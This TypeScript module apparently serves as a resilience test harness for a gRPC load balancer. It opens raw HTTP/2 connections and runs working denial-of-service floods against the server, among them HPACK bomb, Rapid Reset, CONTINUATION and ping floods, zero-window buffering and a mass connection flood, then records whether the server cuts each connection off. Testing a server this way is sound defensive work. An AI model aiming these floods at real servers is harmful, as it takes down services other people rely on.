import { connect, type Socket } from 'node:net';
import { setImmediate as yieldToLoop } from 'node:timers/promises';
import {
  ErrorCode,
  Flag,
  frame,
  FrameReader,
  FrameType,
  grpcRedirectRequest,
  grpcRequestHeaders,
  headers,
  hpack,
  ping,
  PREFACE,
  priority,
  rstStream,
  Setting,
  settings,
  settingsAck,
  windowUpdate,
} from './frames.js';

export const REDIRECT_PATH = '/loadBalancer.loadBalancer/Redirect';
const VIDEO = 'http://s1.origin-cluster/video/123/xcg2djHckad.m3u8';
const BASE_HEADERS = grpcRequestHeaders(REDIRECT_PATH);

/** One raw HTTP/2 connection: writes whatever it is told, answers SETTINGS, notes a GOAWAY and the close. */
export class RawConnection {
  readonly socket: Socket;
  readonly opened: Promise<void>;
  /** Resolves once the server's first SETTINGS frame arrived: the server has set up the session. */
  readonly accepted: Promise<void>;
  readonly closed: Promise<void>;
  goawayCode: number | undefined;
  /** The GOAWAY's debug data, as text. */
  goawayDebug: string | undefined;
  /** Streams whose answer has ended (a frame with END_STREAM arrived on them). */
  readonly endedStreams = new Set<number>();
  bytesSent = 0;
  isClosed = false;
  private readonly reader = new FrameReader();
  private onAccepted!: () => void;

  constructor(port: number, initialSettings: Record<number, number> = {}, host = '127.0.0.1') {
    this.socket = connect({ port, host, noDelay: true });
    this.socket.on('error', () => undefined);
    this.accepted = new Promise((resolve) => (this.onAccepted = resolve));
    this.opened = new Promise((resolve) => this.socket.once('connect', () => resolve()));
    this.closed = new Promise((resolve) =>
      this.socket.once('close', () => {
        this.isClosed = true;
        resolve();
      }),
    );
    void this.write(Buffer.concat([PREFACE, settings(initialSettings)]));
    this.socket.on('data', (chunk: Buffer) =>
      this.reader.push(chunk, (type, flags, streamId, payload) => {
        if (type === FrameType.SETTINGS && !(flags & Flag.ACK)) {
          this.onAccepted();
          void this.write(settingsAck());
        } else if (type === FrameType.GOAWAY && payload.length >= 8) {
          // Last stream id (4 bytes), then the error code and debug data.
          this.goawayCode = payload.readUInt32BE(4);
          this.goawayDebug = payload.subarray(8).toString('latin1');
        } else if ((type === FrameType.HEADERS || type === FrameType.DATA) && flags & Flag.END_STREAM) {
          this.endedStreams.add(streamId);
        }
      }),
    );
  }

  /** Writes, and resolves when the socket can take more (so an attack cannot queue without bound here). */
  async write(bytes: Buffer): Promise<void> {
    if (this.isClosed) return;
    this.bytesSent += bytes.length;
    if (!this.socket.write(bytes)) await Promise.race([new Promise((resolve) => this.socket.once('drain', resolve)), this.closed]);
  }

  destroy(): void {
    this.socket.destroy();
  }
}

/** An attack: what it sends first, then what it sends again and again; `reads: false` leaves the server's answers unread. */
export interface Attack {
  readonly name: string;
  readonly advisory: string;
  readonly initialSettings?: Record<number, number>;
  readonly reads?: boolean;
  readonly setup?: (next: StreamIds) => Buffer;
  readonly step: (next: StreamIds) => Buffer;
}

/** Client stream ids: odd, increasing. */
export class StreamIds {
  private id = -1;
  next(): number {
    this.id += 2;
    return this.id;
  }
}

const repeat = (count: number, make: () => Buffer): Buffer => Buffer.concat(Array.from({ length: count }, make));

/** A 4,000-byte header in the HPACK table, then blocks of one-byte references to it (index 62). */
const BOMB_REFERENCES = 16_384 - BASE_HEADERS.length - 16;
const BOMB_BLOCK = Buffer.from([...BASE_HEADERS, ...new Array<number>(BOMB_REFERENCES).fill(hpack.indexed(62)[0] as number)]);

const TINY_FRAME_REQUEST_BYTES = 60_000;

/** A whole Redirect call whose message (a `video` of about `bytes` bytes) is sent one byte per DATA frame. */
export function tinyFrameRequest(streamId: number, bytes: number): Buffer {
  const message = grpcRedirectRequest(`http://s1.origin-cluster/${'a'.repeat(bytes - 40)}`);
  const frames = [headers(streamId, BASE_HEADERS, Flag.END_HEADERS)];
  for (let i = 0; i < message.length; i++) frames.push(frame(FrameType.DATA, i === message.length - 1 ? Flag.END_STREAM : 0, streamId, message.subarray(i, i + 1)));
  return Buffer.concat(frames);
}

export const ATTACKS: readonly Attack[] = [
  {
    name: 'hpack-bomb',
    advisory: 'HPACK bomb (CVE-2016-6581 class): 16 KiB blocks decoding to ~65 MB each',
    setup: (ids) => headers(ids.next(), [...BASE_HEADERS, ...hpack.literalIndexed('x-bomb', 'a'.repeat(4000))], Flag.END_HEADERS | Flag.END_STREAM),
    step: (ids) => headers(ids.next(), BOMB_BLOCK, Flag.END_HEADERS | Flag.END_STREAM),
  },
  {
    name: 'rapid-reset',
    advisory: 'CVE-2023-44487 Rapid Reset',
    step: (ids) =>
      repeat(50, () => {
        const id = ids.next();
        return Buffer.concat([headers(id, BASE_HEADERS, Flag.END_HEADERS), rstStream(id, ErrorCode.CANCEL)]);
      }),
  },
  {
    name: 'continuation-flood',
    advisory: 'CONTINUATION flood (CVE-2024-27983 class): a header block that never ends',
    setup: (ids) => headers(ids.next(), BASE_HEADERS, 0),
    step: () => repeat(50, () => frame(FrameType.CONTINUATION, 0, 1, Buffer.from(hpack.literal('x-c', 'v'.repeat(100))))),
  },
  { name: 'ping-flood', advisory: 'CVE-2019-9512 Ping Flood', reads: false, step: () => repeat(200, () => ping()) },
  { name: 'settings-flood', advisory: 'CVE-2019-9515 Settings Flood', reads: false, step: () => repeat(200, () => settings()) },
  {
    name: 'reset-flood',
    advisory: 'CVE-2019-9514 Reset Flood: invalid requests that each draw a RST_STREAM',
    reads: false,
    step: (ids) => repeat(50, () => headers(ids.next(), [...BASE_HEADERS, ...hpack.literal('X-Upper', 'v')], Flag.END_HEADERS | Flag.END_STREAM)),
  },
  {
    name: 'empty-frames',
    advisory: 'CVE-2019-9518 Empty Frames Flood',
    setup: (ids) => headers(ids.next(), BASE_HEADERS, Flag.END_HEADERS),
    step: () => repeat(200, () => frame(FrameType.DATA, 0, 1)),
  },
  {
    name: 'zero-length-headers',
    advisory: 'CVE-2019-9516 0-Length Headers Leak',
    step: (ids) => headers(ids.next(), [...BASE_HEADERS, ...Array.from({ length: 5000 }, () => hpack.literal('', '')).flat()], Flag.END_HEADERS | Flag.END_STREAM),
  },
  {
    name: 'priority-shuffle',
    advisory: 'CVE-2019-9513 Resource Loop: PRIORITY frames reshuffling the tree',
    step: () => repeat(200, () => priority(1 + 2 * Math.floor(Math.random() * 500), 1 + 2 * Math.floor(Math.random() * 500), 255)),
  },
  {
    name: 'data-dribble',
    advisory: 'CVE-2019-9511 Data Dribble: a 1-byte window, opened a byte at a time',
    initialSettings: { [Setting.INITIAL_WINDOW_SIZE]: 1 },
    step: (ids) =>
      repeat(20, () => {
        const id = ids.next();
        return Buffer.concat([headers(id, BASE_HEADERS, Flag.END_HEADERS), frame(FrameType.DATA, Flag.END_STREAM, id, grpcRedirectRequest(VIDEO)), windowUpdate(id, 1)]);
      }),
  },
  {
    name: 'zero-window',
    advisory: 'CVE-2019-9517 Internal Data Buffering: a zero window and unread answers',
    initialSettings: { [Setting.INITIAL_WINDOW_SIZE]: 0 },
    reads: false,
    step: (ids) =>
      repeat(20, () => {
        const id = ids.next();
        return Buffer.concat([headers(id, BASE_HEADERS, Flag.END_HEADERS), frame(FrameType.DATA, Flag.END_STREAM, id, grpcRedirectRequest(VIDEO))]);
      }),
  },
  {
    name: 'tiny-data-frames',
    advisory: 'a 60,000-byte request in 1-byte DATA frames (quadratic reassembly, a review finding)',
    step: (ids) => tinyFrameRequest(ids.next(), TINY_FRAME_REQUEST_BYTES),
  },
  {
    name: 'stream-flood',
    advisory: 'CVE-2019-9511 class: more open streams than SETTINGS_MAX_CONCURRENT_STREAMS allows',
    step: (ids) => repeat(50, () => headers(ids.next(), BASE_HEADERS, Flag.END_HEADERS)),
  },
];

export interface AttackOutcome {
  readonly name: string;
  /** Connections the attack used: with `reconnect`, a new one each time the server cut one off. */
  readonly connections: number;
  /** How many of them the server closed before the time was up. */
  readonly cutOff: number;
  /** From a connection's first byte to its close, for the first one cut off; undefined if none was. */
  readonly firstCutOffMs: number | undefined;
  /** The error codes of the GOAWAYs the server sent, by connection. */
  readonly goawayCodes: readonly (number | undefined)[];
  readonly bytesSent: number;
}

/** Attacks on one connection until the server closes it or `untilMs` (a performance.now() time) passes. */
async function attackOnce(attack: Attack, port: number, untilMs: number, host: string) {
  const connection = new RawConnection(port, attack.initialSettings, host);
  await Promise.race([connection.opened, connection.closed]);
  const started = performance.now();
  const ids = new StreamIds();
  // Paused, the server's answers pile up in its own queues: what the flood advisories are about.
  if (attack.reads === false) connection.socket.pause();
  const timeUp = new Promise((resolve) => setTimeout(resolve, Math.max(0, untilMs - started)));
  let lastPeek = started;
  if (attack.setup) await Promise.race([connection.write(attack.setup(ids)), timeUp]);
  while (!connection.isClosed && performance.now() < untilMs) {
    // A server that neither reads nor closes leaves the write waiting: the time limit still holds.
    await Promise.race([connection.write(attack.step(ids)), timeUp]);
    if (attack.reads === false && performance.now() - lastPeek > 50) {
      // A paused socket never sees the server's close: look, briefly, every 50 ms.
      lastPeek = performance.now();
      connection.socket.resume();
      await yieldToLoop();
      connection.socket.pause();
    }
    // Let the victim's timers and reads run in this process too.
    await yieldToLoop();
  }
  const cutOff = connection.isClosed;
  const ms = performance.now() - started;
  connection.socket.resume();
  // Read what the server sent last (its GOAWAY), briefly.
  await Promise.race([connection.closed, new Promise((resolve) => setTimeout(resolve, cutOff ? 50 : 0))]);
  connection.destroy();
  return { cutOff, ms, goawayCode: connection.goawayCode, bytesSent: connection.bytesSent };
}

/**
 * Runs one attack for `durationMs`, as fast as the socket takes it. With `reconnect`, a connection
 * the server cuts off is replaced at once, as a determined attacker would, until the time is up.
 */
export async function runAttack(attack: Attack, port: number, durationMs: number, { host = '127.0.0.1', reconnect = false } = {}): Promise<AttackOutcome> {
  const until = performance.now() + durationMs;
  const outcomes: Awaited<ReturnType<typeof attackOnce>>[] = [];
  do outcomes.push(await attackOnce(attack, port, until, host));
  while (reconnect && performance.now() < until);
  const cut = outcomes.filter((o) => o.cutOff);
  return {
    name: attack.name,
    connections: outcomes.length,
    cutOff: cut.length,
    firstCutOffMs: cut[0]?.ms,
    goawayCodes: outcomes.map((o) => o.goawayCode),
    bytesSent: outcomes.reduce((sum, o) => sum + o.bytesSent, 0),
  };
}

/** Opens `count` connections at once; resolves when every one got the server's SETTINGS (or the time is up). */
export async function connectionFlood(port: number, count: number, timeoutMs: number, host = '127.0.0.1') {
  const started = performance.now();
  const connections = Array.from({ length: count }, () => new RawConnection(port, {}, host));
  let accepted = 0;
  const all = Promise.all(connections.map((c) => Promise.race([c.accepted, c.closed]).then(() => !c.isClosed && accepted++)));
  await Promise.race([all, new Promise((resolve) => setTimeout(resolve, timeoutMs))]);
  const ms = performance.now() - started;
  return {
    accepted,
    closed: connections.filter((c) => c.isClosed).length,
    ms,
    close: () => connections.forEach((c) => c.destroy()),
  };
}
